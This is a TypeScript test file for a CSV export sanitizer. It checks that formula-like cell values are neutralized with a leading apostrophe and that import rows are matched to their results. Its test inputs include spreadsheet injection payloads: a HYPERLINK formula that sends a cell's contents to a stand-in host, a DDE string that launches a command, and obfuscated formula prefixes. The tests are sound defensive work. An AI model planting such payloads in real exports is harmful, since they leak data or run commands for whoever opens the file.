import fc from 'fast-check';

import { harmless, harmlessText, matchRows } from '../../../../dev/demo/csvCells';

describe('a text cell', () => {
	it.each([
		['=HYPERLINK("http://example.com/?d="&A2,"Contoso")'],
		['+1-555-0100'],
		["-2+3+cmd|'/c calc'!A1"],
		['@SUM(1+1)'],
		['\tContoso'],
		['\rContoso'],
		['   =1+1'],
		['\u00A0=1+1'],
		['\u200B=1+1'],
		['\uFEFF=1+1'],
		['＝1+1'],
		['＋1'],
		['－1+1'],
		['＠SUM(1)'],
		['\u0000=1'],
		['-'],
	])('%j is text to a spreadsheet', (text) => {
		expect(harmlessText(text)).toBe(`'${text}`);
	});

	it.each([
		['\t=1+1', "'\t'=1+1"],
		['\r=1+1', "'\r'=1+1"],
		['Contoso;=1+1', "Contoso;'=1+1"],
		['Contoso\n=1+1', "Contoso\n'=1+1"],
		['Contoso\t @SUM(1)', "Contoso\t' @SUM(1)"],
	])('%j holds no formula where it is cut', (text, expected) => {
		expect(harmlessText(text)).toBe(expected);
	});

	it.each([
		'Contoso',
		'd’Arc & Co = 1',
		'e74958fa-f6e2-4365-9a84-9e6b61ec55e9',
		'2025-10-14',
		'tania.carr@contoso.example',
		'-12.5',
		'42',
		'',
		"'quoted",
	])('%j stays as it is', (text) => {
		expect(harmlessText(text)).toBe(text);
	});

	it('keeps a phone number readable behind its apostrophe', () => {
		expect(harmlessText('+31 30 555 0171')).toBe("'+31 30 555 0171");
	});

	it('never begins with what a spreadsheet runs, and loses nothing', () => {
		fc.assert(
			fc.property(
				fc.tuple(
					fc.constantFrom('', ' ', '\t', '=', '+', '-', '@', '＝', ';='),
					fc.string({ unit: 'binary' }),
				),
				([start, rest]) => {
					const cell = harmlessText(start + rest);
					expect(cell).toMatch(/^(?:-?\d+(?:[.,]\d+)?$|[^=+\-@\t\r]|$)/u);
					expect(cell.replace(/'/g, '')).toBe((start + rest).replace(/'/g, ''));
					expect(harmlessText(cell)).toBe(cell);
				},
			),
		);
	});
});

it('a row keeps its numbers, true and false, and what is not there', () => {
	const row = {
		name: '=1',
		count: -5,
		current: false,
		latest: { by: '@x', day: null },
		all: ['+1', 2],
	};
	expect(harmless(row)).toEqual({
		name: "'=1",
		count: -5,
		current: false,
		latest: { by: "'@x", day: null },
		all: ["'+1", 2],
	});
});

describe('rows and results', () => {
	const row = (line: number) => ({ line, companyName: 'Contoso', customerId: 'x', email: 'e' });
	const result = (line: unknown) => ({ line, outcome: 'confirmed' });
	const outcomes = (rows: Array<Record<string, unknown>>) =>
		rows.map(({ line, outcome }) => [line, outcome]);

	it('come back in the order of the file', () => {
		expect(outcomes(matchRows([row(2), row(3)], [result(3), result(2)]))).toEqual([
			[2, 'confirmed'],
			[3, 'confirmed'],
		]);
	});

	it('say which line has no result, and which has several', () => {
		const matched = matchRows([row(2), row(3), row(5)], [result(5), result(2), result(5)]);
		expect(outcomes(matched)).toEqual([
			[2, 'confirmed'],
			[3, 'no result'],
			[5, 'confirmed'],
			[5, 'confirmed'],
			[5, 'several results'],
		]);
	});

	it('keep a result that belongs to no row', () => {
		expect(outcomes(matchRows([row(2)], [result(undefined), result(2)]))).toEqual([
			[2, 'confirmed'],
			[undefined, 'confirmed'],
		]);
	});
});
